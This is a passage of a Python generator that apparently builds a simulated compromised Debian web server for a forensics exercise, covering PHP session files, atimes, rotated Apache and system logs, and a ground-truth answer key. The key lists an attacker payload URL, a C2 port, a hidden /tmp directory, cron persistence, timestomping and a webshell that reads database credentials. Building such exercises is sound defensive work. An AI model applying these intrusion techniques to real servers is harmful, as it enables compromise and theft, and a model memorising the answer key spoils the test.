        )


# --------------------------------------------------------------------------- PHP sessions


def _php_sessions(world: _World) -> None:
    """Session files: one per browsing visit that reached a session page; one per request for
    clients without cookies. Debian's sessionclean deletes them 48 h after their last change."""
    tree = world.tree
    rng = _rng(world.seed, "sessions")
    session_pages = {
        web.SHOP: (
            "/cart.php",
            "/checkout.php",
            "/admin/",
            "/admin/index.php",
            "/admin/login.php",
            "/admin/orders.php",
            "/admin/products.php",
            "/admin/logout.php",
            "/admin/upload.php",
        ),
        web.KANZLEI: ("/kontakt.php",),
    }
    lifetime = 172_800 * SECOND
    runs = sorted(
        day + hour * HOUR + minute * MINUTE
        for day in _days(SNAPSHOT - 4 * DAY, SNAPSHOT)
        for hour in range(24)
        for minute in (9, 39)
    )
    folder = "/var/lib/php/sessions"
    attacker_sessions = 0
    for domain, pages in session_pages.items():
        sessions: dict[tuple[int, int], list[Hit]] = {}
        for hit in sorted(world.hits.get(domain, []), key=lambda h: h.time_ns):
            base = hit.target.split("?", 1)[0]
            if base not in pages or hit.status >= 400:
                continue
            if base == "/admin/upload.php":
                continue  # the vulnerable script never starts a session
            key = (hit.visit, 0 if hit.cookies else hit.time_ns)
            sessions.setdefault(key, []).append(hit)
        for hits in sessions.values():
            first, last = hits[0], hits[-1]
            if last.time_ns < SNAPSHOT - 4 * DAY:
                continue
            born = first.time_ns + rng.randrange(2, 9) * MS + tree.small()
            changed = last.time_ns + rng.randrange(12, 60) * MS + tree.small()
            deleted = next((r for r in runs if r - changed > lifetime + MINUTE), None)
            if any(h.target == "/admin/logout.php" for h in hits):
                deleted = changed
            if deleted is not None and deleted <= SNAPSHOT:
                tree.removed(folder, deleted + 200 * MS)
                continue
            if first.actor == "owner":
                data = b"admin_id|i:2;"
            elif domain == web.KANZLEI:
                data = f'token|s:32:"{rng.randbytes(16).hex()}";'.encode()
            elif any(h.method == "POST" and h.target == "/cart.php" for h in hits):
                data = f"cart|a:1:{{i:{1001 + rng.randrange(18)};i:1;}}".encode()
                if any(h.target.startswith("/checkout.php") for h in hits):
                    data += f'csrf|s:64:"{rng.randbytes(32).hex()}";'.encode()
            elif any(h.target.startswith(("/cart.php", "/checkout.php")) for h in hits):
                data = b"cart|a:0:{}"
            else:
                data = b""
            path = f"{folder}/sess_{_session_id(rng)}"
            node = tree.write(path, data, born, uid=WWW, gid=WWW, mode=0o600, done=changed)
            node.fixed_atime = changed
            if first.actor == "attacker":
                attacker_sessions += 1
                world.secrets[f"attacker-session:{attacker_sessions}"] = path
            else:
                world.noise.append(BenignNoise(path, "php-session", f"PHP session of a {first.actor} on {domain}"))


# --------------------------------------------------------------------------- atimes from requests


_SHOP_INCLUDES = (
    "includes/config.php",
    "includes/db.php",
    "includes/functions.php",
    "includes/header.php",
    "includes/footer.php",
)


def _file_reads(world: _World) -> None:
    """Apache reads static files on every request; PHP files once per opcache lifetime (until the next
    graceful restart). relatime turns that into the atimes an investigator sees."""
    tree = world.tree
    restarts = world.apache_restarts
    for domain, hits in world.hits.items():
        if not domain:
            continue
        root = web.docroot(domain)
        compiled: set[str] = set()
        epoch = 0
        for hit in sorted(hits, key=lambda h: h.time_ns):
            while epoch < len(restarts) and restarts[epoch] <= hit.time_ns:
                compiled.clear()
                epoch += 1
            if hit.status >= 400 or hit.status == 304:
                continue
            rel = urllib.parse.unquote(hit.target.split("?", 1)[0])
            if rel.endswith("/"):
                rel += "index.html" if domain == web.TSV else "index.php"
            if domain == web.BLOG and not rel.startswith(("/wp-", "/xmlrpc")):
                rel = "/index.php"
            path = root + rel
            node = tree.nodes.get(path)
            if node is None or node.kind != "file":
                continue
            if path.endswith(".php"):
                targets = [path]
                if domain == web.SHOP:
                    targets += [f"{root}/{inc}" for inc in _SHOP_INCLUDES]
                for target in targets:
                    target_node = tree.nodes.get(target)
                    if target_node is None:
                        continue
                    changed = max([target_node.born, *target_node.mods])
                    if target not in compiled or changed > hit.time_ns - 2 * SECOND:
                        compiled.add(target)
                        tree.read(target, hit.time_ns + 3 * MS)
            else:
                tree.read(path, hit.time_ns + 2 * MS)


def _service_reads(world: _World) -> None:
    """What daemons read: accounts on every cron job, configs on every (re)start, sshd_config on
    every SSH connection, programs and libraries when they are started. Only the reads relatime
    lets through show, so these files have recent but not up-to-the-second atimes."""
    tree = world.tree
    days = _days(SYSLOG_FROM - DAY, SNAPSHOT)
    for day in days:
        for hour in range(24):
            t = day + hour * HOUR + 17 * MINUTE + 4 * MS
            if t >= SNAPSHOT:
                break
            for path in (
                "/etc/passwd",
                "/etc/group",
                "/etc/shadow",
                "/etc/localtime",
                "/usr/lib/x86_64-linux-gnu/libc.so.6",
                "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                "/usr/bin/dash",
                "/usr/bin/run-parts",
            ):
                tree.read(path, t)
    for line_time, line in world.log.auth:
        if "sshd[" in line and ("Accepted" in line or "Invalid user" in line or "Failed password for root" in line):
            tree.read("/etc/ssh/sshd_config", line_time - 300 * MS)
            tree.read("/usr/sbin/sshd", line_time - 320 * MS)
    daemons = (
        "/usr/lib/systemd/systemd",
        "/usr/sbin/sshd",
        "/usr/sbin/cron",
        "/usr/sbin/rsyslogd",
        "/usr/sbin/mariadbd",
        "/usr/sbin/apache2",
        "/etc/rsyslog.conf",
        "/etc/crontab",
        "/etc/ssh/ssh_host_ed25519_key",
        "/etc/hostname",
        "/etc/hosts",
        "/etc/fstab",
    )
    for boot in (PREVIOUS_BOOT, LAST_BOOT):
        for n, path in enumerate(daemons):
            tree.read(path, boot + 2 * SECOND + n * 150 * MS)
    apache_config = [
        p for p in tree.nodes if p.startswith(("/etc/apache2/", "/etc/letsencrypt/")) and tree.nodes[p].kind == "file"
    ]
    apache_config += [
        "/etc/php/8.2/apache2/php.ini",
        "/usr/lib/apache2/modules/libphp8.2.so",
        "/usr/lib/apache2/modules/mod_rewrite.so",
        "/usr/lib/apache2/modules/mod_ssl.so",
        "/usr/lib/x86_64-linux-gnu/libssl.so.3",
        "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
    ]
    for restart in world.apache_restarts:
        for path in apache_config:
            tree.read(path, restart - 400 * MS)


# --------------------------------------------------------------------------- writing the logs


def _write_logs(world: _World) -> None:
    tree = world.tree
    log = world.log
    apache_rotations = tuple(world.rotation_at[r] for r in ROTATION_SUNDAYS)
    for domain in (web.SHOP, web.BLOG, web.KANZLEI, web.TSV, ""):
        hits = sorted(world.hits.get(domain, []), key=lambda h: h.time_ns)
        name = f"{domain}_access.log" if domain else "access.log"
        lines = [(h.time_ns, h.line()) for h in hits]
        _rotate_log(
            tree,
            f"/var/log/apache2/{name}",
            lines,
            apache_rotations,
            8,
            noise=world.noise,
            delay=30 * MS + len(name) * MS,
        )
    for domain in (web.SHOP, web.BLOG, web.KANZLEI, ""):
        name = f"{domain}_error.log" if domain else "error.log"
        lines = [(t, text) for t, text in world.error_lines.get(domain, []) if t >= APACHE_LOG_FROM]
        _rotate_log(
            tree,
            f"/var/log/apache2/{name}",
            lines,
            apache_rotations,
            8,
            noise=world.noise,
            delay=20 * MS + len(name) * MS,
        )
    tree.write(
        f"/var/log/apache2/{web.TSV}_error.log",
        b"",
        TSV_DEPLOY - 2 * HOUR + 3 * MINUTE + tree.ns(),
        gid=system.GID_ADM,
        mode=0o640,
    )
    sys_rotations = tuple(world.rotation_at[r] for r in ROTATION_SUNDAYS if r >= SYSLOG_FROM)
    for n, (name, lines) in enumerate((("syslog", log.syslog), ("auth.log", log.auth), ("kern.log", log.kern))):
        kept = [(t, line) for t, line in lines if t < SNAPSHOT]
        _rotate_log(tree, f"/var/log/{name}", kept, sys_rotations, 4, noise=world.noise, delay=600 * MS + n * 40 * MS)
    # utmp files rotate monthly: wtmp and btmp hold November
    november = local_ns(2026, 11, 1)
    for name, records, mode in (("wtmp", log.wtmp, 0o664), ("btmp", log.btmp, 0o660)):
        utmp = sorted((r for r in records if november <= r[0] < SNAPSHOT), key=lambda r: r[0])
        data = b"".join(rec for _t, rec in utmp)
        last = utmp[-1][0] if utmp else november
        tree.write(
            f"/var/log/{name}",
            data,
            november + 4 * SECOND + tree.ns(),
            gid=system.GID_UTMP,
            mode=mode,
            done=last + tree.small(),
        )
    tree.write(
        "/var/log/backup-sites.log",
        b"".join(
            f"{clock.plain(day + HOUR + 30 * MINUTE)} backup ok\n".encode()
            for day in _days(local_ns(2026, 11, 1), SNAPSHOT)
            if day + HOUR + 30 * MINUTE < SNAPSHOT
        ),
        _day(2024, 2, 20, 1, 30, 0) + tree.ns(),
        done=clock.day_start(SNAPSHOT) + HOUR + 36 * MINUTE,
    )


# --------------------------------------------------------------------------- ground truth


def _ground_truth(world: _World, attack: _Attack, entries: Mapping[str, Entry]) -> GroundTruth:
    assert attack.entry is not None and attack.timestomp is not None
    # times as the finished file system has them (after _rough)
    malicious = [
        MaliciousFile(m.path, m.role, m.description, m.sha256, entries[m.path].times.btime_ns) for m in attack.malicious
    ]
    stomped = entries[attack.timestomp.path].times
    timestomp = Timestomp(
        attack.timestomp.path,
        stomped.mtime_ns,
        stomped.atime_ns,
        stomped.btime_ns,
        stomped.ctime_ns,
        attack.timestomp.command,
    )
    for number in range(1, 10):
        path = world.secrets.get(f"attacker-session:{number}")
        if path:
            attack.traces.append(Trace(path, "PHP session file created by the attacker's scan of /admin/"))
    vhosts = []
    for domain in (web.SHOP, web.BLOG, web.KANZLEI, web.TSV):
        logs = tuple(sorted(p for p in world.tree.nodes if p.startswith(f"/var/log/apache2/{domain}_access.log")))
        errors = tuple(sorted(p for p in world.tree.nodes if p.startswith(f"/var/log/apache2/{domain}_error.log")))
        vhosts.append(Vhost(domain, web.docroot(domain), logs, errors))
    # the attack's access-log lines sit in .1 after Sunday's rotation
    rotated = world.rotation_at[ROTATION_SUNDAYS[-1]]
    log_of = {True: f"/var/log/apache2/{web.SHOP}_access.log.1", False: f"/var/log/apache2/{web.SHOP}_access.log"}
    requests = tuple(
        AttackRequest(r.time_ns, r.ip, r.method, r.target, r.status, log_of[r.time_ns < rotated], r.purpose)
        for r in attack.requests
    )
    entry = attack.entry
    entry = EntryPoint(
        entry.url,
        entry.method,
        entry.script,
        entry.weakness,
        entry.request_ns,
        log_of[entry.request_ns < rotated],
        entry.log_line,
        entry.created,
    )
    noise = sorted({(n.path, n.category, n.reason) for n in world.noise})
    return GroundTruth(
        seed=world.seed,
        hostname=system.HOSTNAME,
        timezone=clock.TZ_NAME,
        os_release="Debian GNU/Linux 12 (bookworm)",
        snapshot_ns=SNAPSHOT,
        network_cut_ns=NETWORK_CUT,
        attacker_ips=(traffic.ATTACKER_IP, traffic.PAYLOAD_HOST_IP),
        payload_url=f"http://{traffic.PAYLOAD_HOST_IP}/k.bin",
        c2=f"{traffic.PAYLOAD_HOST_IP}:6667",
        attack_start_ns=attack.start,
        attack_end_ns=attack.end,
        entry_point=entry,
        malicious=tuple(sorted(malicious, key=lambda m: m.btime_ns)),
        hidden_dirs=("/tmp/.X11-cache",),
        persistence=("/var/spool/cron/crontabs/www-data",),
        timestomped=timestomp,
        attacker_requests=requests,
        attacker_commands=tuple(attack.commands),
        traces=tuple(attack.traces),
        exposed_credentials=(
            f"MariaDB user 'shop' (DB_PASS in {web.docroot(web.SHOP)}/includes/config.php, read through the webshell)",
        ),
        benign_noise=tuple(BenignNoise(p, c, r) for p, c, r in noise),
        vhosts=tuple(vhosts),
        login_users=("root", "thomas", "anna"),
    )


def iter_paths(scenario: Scenario, prefix: str = "/") -> Iterator[Entry]:
    """Entries under a host path prefix, in path order."""
    for entry in scenario.entries:
        if entry.path == prefix or entry.path.startswith(prefix.rstrip("/") + "/"):
            yield entry
